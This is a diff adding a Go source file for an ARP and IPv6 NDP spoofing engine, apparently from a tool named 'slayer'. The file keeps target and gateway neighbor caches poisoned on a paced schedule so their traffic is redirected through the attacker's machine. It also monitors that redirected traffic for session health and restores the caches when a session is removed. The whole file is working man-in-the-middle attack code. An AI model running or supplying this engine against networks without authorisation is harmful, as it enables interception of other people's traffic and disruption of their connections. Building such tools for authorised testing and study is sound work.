@@ -0,0 +1,671 @@
+package spoof
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"net"
+	"sort"
+	"sync"
+	"time"
+
+	"github.com/prabalesh/slayer/internal/events"
+	"github.com/prabalesh/slayer/internal/networking/arp"
+)
+
+// Engine defaults
+const (
+	// Requests between a poisoned pair are answered as they are seen, so the
+	// periodic refresh only needs to beat cache expiry
+	DefaultInterval    = 5 * time.Second
+	DefaultMaxPPS      = 200
+	DefaultMaxFailures = 10 // consecutive failed refreshes before a session is stopped
+)
+
+// Session is one target ⇄ gateway pair kept poisoned by the engine.
+type Session struct {
+	ID         int64
+	TargetIP   net.IP
+	TargetMAC  net.HardwareAddr
+	TargetIPv6 []net.IP // advertised to the router when it has IPv6
+	Direction  Direction
+	Interval   time.Duration // refresh interval, falls back to the engine default
+
+	StartedAt    time.Time
+	PacketsSent  uint64
+	SendErrors   uint64
+	Answered     uint64    // ARP requests answered between refreshes
+	Failures     int       // consecutive refreshes with a failed send
+	LastError    string    // most recent send error
+	UploadSeen   time.Time // last frame from the target redirected to us
+	DownloadSeen time.Time // last frame for the target sent to us by the gateway
+	Health       Health    // filled in on snapshots
+
+	phase      time.Duration // offset within the interval, spreads sends evenly
+	next       time.Time     // next scheduled refresh
+	started    bool          // first refresh went out
+	waiters    []chan error  // Add callers waiting for the first refresh
+	removed    bool
+	stopReason error // why the engine stopped the session on its own
+}
+
+// ErrStopped is reported to Add callers when a session ends before its first
+// refresh went out.
+var ErrStopped = errors.New("spoof session stopped")
+
+// Engine owns every spoof session and sends all poison frames from a single
+// goroutine. Sessions are spread evenly across the refresh interval and the
+// total send rate is capped by a packets-per-second ceiling.
+type Engine struct {
+	sender     *arp.Sender
+	gatewayIP  net.IP
+	gatewayMAC net.HardwareAddr
+	routerIPs  []net.IP // IPv6 router addresses, none while IPv6 is off
+	routerMAC  net.HardwareAddr
+	interval   time.Duration
+	epoch      time.Time // reference point phases are measured from
+	pacer      *pacer
+	monitor    *trafficMonitor // nil when redirected traffic can't be observed
+	events     *events.Bus
+	onChange   func(Change)
+	onStop     func(id int64, reason error)
+
+	maxFailures int // 0 never stops failing sessions
+
+	mu       sync.Mutex
+	sessions map[int64]*Session
+
+	wake        chan struct{}
+	stop        chan struct{}
+	done        chan struct{}
+	monitorDone chan struct{}
+	watchDone   chan struct{}
+}
+
+// NewEngine starts an engine poisoning on behalf of the given gateway. If the
+// interface can be observed, redirected traffic is tracked per session to
+// report its health. Session events are published on bus, which may be nil.
+func NewEngine(sender *arp.Sender, gatewayIP net.IP, gatewayMAC net.HardwareAddr, bus *events.Bus) *Engine {
+	e := &Engine{
+		sender:      sender,
+		gatewayIP:   gatewayIP,
+		gatewayMAC:  gatewayMAC,
+		interval:    DefaultInterval,
+		epoch:       time.Now(),
+		pacer:       newPacer(DefaultMaxPPS),
+		events:      bus,
+		maxFailures: DefaultMaxFailures,
+		sessions:    make(map[int64]*Session),
+		wake:        make(chan struct{}, 1),
+		stop:        make(chan struct{}),
+		done:        make(chan struct{}),
+		monitorDone: make(chan struct{}),
+		watchDone:   make(chan struct{}),
+	}
+	go e.run()
+
+	listener, err := arp.NewVLANListener(sender.Interface(), sender.VLAN(), watchTimeout)
+	if err != nil {
+		bus.Publish(events.Event{
+			Kind:    events.WorkerError,
+			Source:  "spoof",
+			Message: "can't follow address changes on " + sender.Interface().Name,
+			Err:     err,
+		})
+		close(e.watchDone)
+	} else {
+		go func() {
+			defer close(e.watchDone)
+			e.watch(listener)
+		}()
+	}
+
+	monitorIface, err := monitorInterface(sender)
+	var monitor *trafficMonitor
+	if err == nil {
+		monitor, err = newTrafficMonitor(monitorIface)
+	}
+	if err != nil {
+		bus.Publish(events.Event{
+			Kind:    events.WorkerError,
+			Source:  "spoof",
+			Message: "can't watch redirected traffic on " + sender.Interface().Name + ", health is unknown",
+			Err:     err,
+		})
+		close(e.monitorDone)
+	} else {
+		e.monitor = monitor
+		go func() {
+			defer close(e.monitorDone)
+			monitor.run(e.stop, e.sawTraffic)
+		}()
+	}
+	return e
+}
+
+// SetMaxPPS sets the global ceiling on frames sent per second.
+func (e *Engine) SetMaxPPS(pps int) {
+	e.pacer.setRate(pps)
+}
+
+// SetMaxFailures sets how many consecutive failed refreshes stop a session.
+// Zero keeps failing sessions running.
+func (e *Engine) SetMaxFailures(n int) {
+	if n < 0 {
+		return
+	}
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.maxFailures = n
+}
+
+// OnStop registers fn to be called, outside the engine lock, when the engine
+// stops a session on its own after too many failures. fn runs before the
+// session's caches are restored.
+func (e *Engine) OnStop(fn func(id int64, reason error)) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.onStop = fn
+}
+
+// SetInterval sets how often sessions without their own interval are refreshed.
+func (e *Engine) SetInterval(interval time.Duration) {
+	if interval <= 0 {
+		return
+	}
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.interval = interval
+	e.rebalance(time.Now())
+	e.notify()
+}
+
+// SetRouterIPv6 enables neighbor discovery poisoning alongside ARP: every
+// session also tells its target that the router's IPv6 addresses are at our
+// MAC, and the router at mac that the target's are. No addresses turns it
+// off again.
+func (e *Engine) SetRouterIPv6(mac net.HardwareAddr, ips []net.IP) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.routerMAC = mac
+	e.routerIPs = ips
+	for _, s := range e.sessions {
+		s.next = time.Now()
+	}
+	e.notify()
+}
+
+// Add starts poisoning a target, over NDP too for its IPv6 addresses once
+// the router's are known. Adding an existing ID updates its addresses and
+// options without interrupting the session. The returned channel yields the
+// outcome of the next refresh: nil once poison frames went out, or the error
+// that prevented it.
+func (e *Engine) Add(id int64, targetIP net.IP, targetMAC net.HardwareAddr, targetIPv6 []net.IP, opts Options) <-chan error {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+
+	ready := make(chan error, 1)
+	if s, exists := e.sessions[id]; exists {
+		s.TargetIP = targetIP
+		s.TargetMAC = targetMAC
+		s.TargetIPv6 = targetIPv6
+		s.Direction = opts.Direction
+		s.Interval = opts.Interval
+		s.next = time.Now()
+		s.waiters = append(s.waiters, ready)
+	} else {
+		// Poison right away, the session joins the even schedule afterwards
+		e.sessions[id] = &Session{
+			ID:         id,
+			TargetIP:   targetIP,
+			TargetMAC:  targetMAC,
+			TargetIPv6: targetIPv6,
+			Direction:  opts.Direction,
+			Interval:   opts.Interval,
+			StartedAt:  time.Now(),
+			next:       time.Now(),
+			waiters:    []chan error{ready},
+		}
+	}
+	e.refilter()
+	e.rebalance(time.Time{})
+	e.notify()
+	return ready
+}
+
+// Get returns a snapshot of the session for id.
+func (e *Engine) Get(id int64) (Session, bool) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	s, exists := e.sessions[id]
+	if !exists {
+		return Session{}, false
+	}
+	return e.snapshot(s, time.Now()), true
+}
+
+// Has reports whether a session exists for id.
+func (e *Engine) Has(id int64) bool {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	_, exists := e.sessions[id]
+	return exists
+}
+
+// Sessions returns a snapshot of all sessions sorted by ID.
+func (e *Engine) Sessions() []Session {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+
+	now := time.Now()
+	sessions := make([]Session, 0, len(e.sessions))
+	for _, s := range e.sessions {
+		sessions = append(sessions, e.snapshot(s, now))
+	}
+	sort.Slice(sessions, func(i, j int) bool { return sessions[i].ID < sessions[j].ID })
+	return sessions
+}
+
+// Remove stops poisoning a target and restores its ARP caches. The returned
+// channel is closed once restoration has finished.
+func (e *Engine) Remove(id int64) <-chan struct{} {
+	restored := make(chan struct{})
+
+	e.mu.Lock()
+	s, exists := e.sessions[id]
+	if exists {
+		s.removed = true
+		s.resolve(ErrStopped)
+		delete(e.sessions, id)
+		e.refilter()
+		e.rebalance(time.Time{})
+		e.notify()
+	}
+	e.mu.Unlock()
+
+	if !exists {
+		close(restored)
+		return restored
+	}
+
+	go func() {
+		defer close(restored)
+		e.restore(s)
+	}()
+	return restored
+}
+
+// Close stops the engine and restores every remaining session. The returned
+// channel is closed once all sessions are restored.
+func (e *Engine) Close() <-chan struct{} {
+	e.mu.Lock()
+	ids := make([]int64, 0, len(e.sessions))
+	for id := range e.sessions {
+		ids = append(ids, id)
+	}
+	e.mu.Unlock()
+
+	var pending []<-chan struct{}
+	for _, id := range ids {
+		pending = append(pending, e.Remove(id))
+	}
+
+	close(e.stop)
+	closed := make(chan struct{})
+	go func() {
+		defer close(closed)
+		<-e.done
+		<-e.monitorDone
+		<-e.watchDone
+		for _, restored := range pending {
+			<-restored
+		}
+	}()
+	return closed
+}
+
+// run is the single scheduling loop sending every poison frame
+func (e *Engine) run() {
+	defer close(e.done)
+
+	timer := time.NewTimer(time.Hour)
+	defer timer.Stop()
+
+	for {
+		e.mu.Lock()
+		s := e.earliest()
+		wait := time.Hour
+		frames := 0
+		if s != nil {
+			wait = time.Until(s.next)
+			frames = len(e.poisonFrames(s))
+		}
+		e.mu.Unlock()
+
+		if s == nil || wait > 0 {
+			timer.Reset(wait)
+			select {
+			case <-timer.C:
+			case <-e.wake:
+				timer.Stop()
+			case <-e.stop:
+				return
+			}
+			continue
+		}
+
+		if !e.pacer.wait(frames, e.stop) {
+			return
+		}
+		e.poison(s)
+	}
+}
+
+// poison refreshes one session unless it was removed in the meantime
+func (e *Engine) poison(s *Session) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+
+	if s.removed {
+		return
+	}
+
+	frames := e.poisonFrames(s)
+	var lastErr error
+	for _, frame := range frames {
+		if err := e.sender.Send(frame.Packet, frame.Dst); err != nil {
+			s.SendErrors++
+			lastErr = err
+			continue
+		}
+		s.PacketsSent++
+	}
+	s.resolve(lastErr)
+	if lastErr != nil {
+		s.Failures++
+		s.LastError = lastErr.Error()
+		e.publish(s, events.SendFailed, s.Failures, "", lastErr)
+		if e.maxFailures > 0 && s.Failures >= e.maxFailures {
+			s.stopReason = fmt.Errorf("%d consecutive send failures: %v", s.Failures, lastErr)
+			s.removed = true
+			delete(e.sessions, s.ID)
+			e.refilter()
+			e.rebalance(time.Time{})
+			onStop, id, reason := e.onStop, s.ID, s.stopReason
+			go func() {
+				if onStop != nil {
+					onStop(id, reason)
+				}
+				e.restore(s)
+			}()
+			return
+		}
+	} else {
+		if s.Failures > 0 {
+			e.publish(s, events.Recovered, s.Failures, "", nil)
+		}
+		s.Failures = 0
+		if !s.started {
+			s.started = true
+			e.publish(s, events.SessionStarted, 0, fmt.Sprintf("poisoning %s", s.Direction), nil)
+		}
+	}
+
+	s.next = nextSlot(time.Now(), e.epoch, e.intervalOf(s), s.phase)
+}
+
+// poisonFrames builds every frame of one refresh of s: ARP, plus NDP when
+// the router has IPv6. Must be called with mu held.
+func (e *Engine) poisonFrames(s *Session) []arp.Frame {
+	attackerMAC := e.sender.Interface().HardwareAddr
+	frames := PoisonFrames(s.Direction, attackerMAC, s.TargetIP, s.TargetMAC, e.gatewayIP, e.gatewayMAC)
+	if len(e.routerIPs) > 0 {
+		frames = append(frames, NDPPoisonFrames(s.Direction, attackerMAC, s.TargetMAC, s.TargetIPv6, e.routerMAC, e.routerIPs)...)
+	}
+	return frames
+}
+
+// resolve reports the outcome of a refresh to everyone waiting on Add. Must
+// be called with the engine's mu held.
+func (s *Session) resolve(err error) {
+	for _, ready := range s.waiters {
+		ready <- err
+	}
+	s.waiters = nil
+}
+
+// publish sends an event about a session
+func (e *Engine) publish(s *Session, kind events.Kind, count int, message string, err error) {
+	e.events.Publish(events.Event{
+		Kind:    kind,
+		Source:  "spoof",
+		HostID:  s.ID,
+		IP:      s.TargetIP,
+		Count:   count,
+		Message: message,
+		Err:     err,
+	})
+}
+
+// sawTraffic records a frame from src to dstIP that was sent to our MAC
+func (e *Engine) sawTraffic(src net.HardwareAddr, dstIP net.IP) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+
+	now := time.Now()
+	for _, s := range e.sessions {
+		switch {
+		case bytes.Equal(src, s.TargetMAC) && !dstIP.Equal(s.TargetIP):
+			s.UploadSeen = now
+		case bytes.Equal(src, e.gatewayMAC) && dstIP.Equal(s.TargetIP):
+			s.DownloadSeen = now
+		}
+	}
+}
+
+// refilter lets the traffic monitor see the current sessions' traffic. Must
+// be called with mu held.
+func (e *Engine) refilter() {
+	if e.monitor == nil {
+		return
+	}
+	var macs []net.HardwareAddr
+	var ips []net.IP
+	for _, s := range e.sessions {
+		macs = append(macs, s.TargetMAC)
+		ips = append(ips, s.TargetIP)
+	}
+	if err := e.monitor.setFilter(e.gatewayMAC, macs, ips); err != nil {
+		e.events.Publish(events.Event{
+			Kind:    events.WorkerError,
+			Source:  "spoof",
+			Message: "can't update the redirected traffic filter",
+			Err:     err,
+		})
+	}
+}
+
+// snapshot copies a session and works out its health. Must be called with mu
+// held.
+func (e *Engine) snapshot(s *Session, now time.Time) Session {
+	snap := *s
+	switch {
+	case s.Failures > 0:
+		snap.Health = HealthFailing
+	case e.monitor == nil:
+		snap.Health = HealthUnknown
+	default:
+		window := TrafficWindow
+		if interval := 3 * e.intervalOf(s); interval > window {
+			window = interval
+		}
+		seen, expected := 0, 0
+		for _, side := range []struct {
+			poisoned bool
+			last     time.Time
+		}{
+			{s.Direction.poisonsTarget(), s.UploadSeen},
+			{s.Direction.poisonsGateway(), s.DownloadSeen},
+		} {
+			if !side.poisoned {
+				continue
+			}
+			expected++
+			if now.Sub(side.last) <= window {
+				seen++
+			}
+		}
+		switch seen {
+		case expected:
+			snap.Health = HealthOK
+		case 0:
+			snap.Health = HealthNoTraffic
+		default:
+			snap.Health = HealthPartial
+		}
+	}
+	return snap
+}
+
+// intervalOf returns the refresh interval of a session. Must be called with
+// mu held.
+func (e *Engine) intervalOf(s *Session) time.Duration {
+	if s.Interval > 0 {
+		return s.Interval
+	}
+	return e.interval
+}
+
+// restore sends correct replies for a removed session, paced like poisoning
+func (e *Engine) restore(s *Session) {
+	gatewayIP, gatewayMAC := e.Gateway()
+	attackerMAC := e.sender.Interface().HardwareAddr
+	frames := RestoreFrames(attackerMAC, s.TargetIP, s.TargetMAC, gatewayIP, gatewayMAC)
+
+	e.mu.Lock()
+	routerMAC, routerIPs := e.routerMAC, e.routerIPs
+	e.mu.Unlock()
+	if len(routerIPs) > 0 {
+		frames = append(frames, NDPRestoreFrames(attackerMAC, s.TargetMAC, s.TargetIPv6, routerMAC, routerIPs)...)
+	}
+	var restoreErr error
+	for i := 0; i < RestoreCount; i++ {
+		if i > 0 {
+			time.Sleep(RestoreInterval)
+		}
+		e.pacer.wait(len(frames), nil)
+		if err := e.sender.SendBatch(frames); err != nil {
+			restoreErr = err
+		}
+	}
+
+	// Session fields are no longer touched by the scheduler once removed
+	switch {
+	case s.stopReason != nil:
+		e.publish(s, events.SessionStopped, 0, "stopped after repeated failures, neighbor caches restored", s.stopReason)
+	case restoreErr != nil:
+		e.publish(s, events.SessionStopped, 0, "failed to restore neighbor caches", restoreErr)
+	case len(routerIPs) > 0:
+		e.publish(s, events.SessionStopped, 0, fmt.Sprintf("ARP and NDP caches restored for %s ⇄ %s", s.TargetIP, gatewayIP), nil)
+	default:
+		e.publish(s, events.SessionStopped, 0, fmt.Sprintf("ARP caches restored for %s ⇄ %s", s.TargetIP, gatewayIP), nil)
+	}
+}
+
+// earliest returns the session due first. Must be called with mu held.
+func (e *Engine) earliest() *Session {
+	var first *Session
+	for _, s := range e.sessions {
+		if first == nil || s.next.Before(first.next) {
+			first = s
+		}
+	}
+	return first
+}
+
+// rebalance spreads sessions evenly over the interval. Sessions that have not
+// been poisoned yet keep their immediate slot. When now is non-zero,
+// scheduled sessions are moved to their new slot right away. Must be called
+// with mu held.
+func (e *Engine) rebalance(now time.Time) {
+	ids := make([]int64, 0, len(e.sessions))
+	for id := range e.sessions {
+		ids = append(ids, id)
+	}
+	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
+
+	for i, id := range ids {
+		s := e.sessions[id]
+		interval := e.intervalOf(s)
+		s.phase = interval * time.Duration(i) / time.Duration(len(ids))
+		if !now.IsZero() {
+			s.next = nextSlot(now, e.epoch, interval, s.phase)
+		}
+	}
+}
+
+// notify wakes the scheduling loop. Must be called with mu held.
+func (e *Engine) notify() {
+	select {
+	case e.wake <- struct{}{}:
+	default:
+	}
+}
+
+// nextSlot returns the first time after now that falls on the given phase
+func nextSlot(now, epoch time.Time, interval, phase time.Duration) time.Time {
+	slot := epoch.Add(phase)
+	if slot.After(now) {
+		return slot
+	}
+	elapsed := now.Sub(slot)
+	return slot.Add((elapsed/interval + 1) * interval)
+}
+
+// pacer enforces a global frames-per-second ceiling
+type pacer struct {
+	mu   sync.Mutex
+	gap  time.Duration // minimum spacing between frames
+	next time.Time     // earliest time the next frame may go out
+}
+
+func newPacer(pps int) *pacer {
+	p := &pacer{}
+	p.setRate(pps)
+	return p
+}
+
+func (p *pacer) setRate(pps int) {
+	if pps <= 0 {
+		pps = DefaultMaxPPS
+	}
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.gap = time.Second / time.Duration(pps)
+}
+
+// wait blocks until n frames may be sent. It returns false if stop was
+// closed while waiting.
+func (p *pacer) wait(n int, stop <-chan struct{}) bool {
+	p.mu.Lock()
+	now := time.Now()
+	if p.next.Before(now) {
+		p.next = now
+	}
+	sendAt := p.next
+	p.next = p.next.Add(p.gap * time.Duration(n))
+	p.mu.Unlock()
+
+	delay := time.Until(sendAt)
+	if delay <= 0 {
+		return true
+	}
+	timer := time.NewTimer(delay)
+	defer timer.Stop()
+	select {
+	case <-timer.C:
+		return true
+	case <-stop:
+		return false
+	}
+}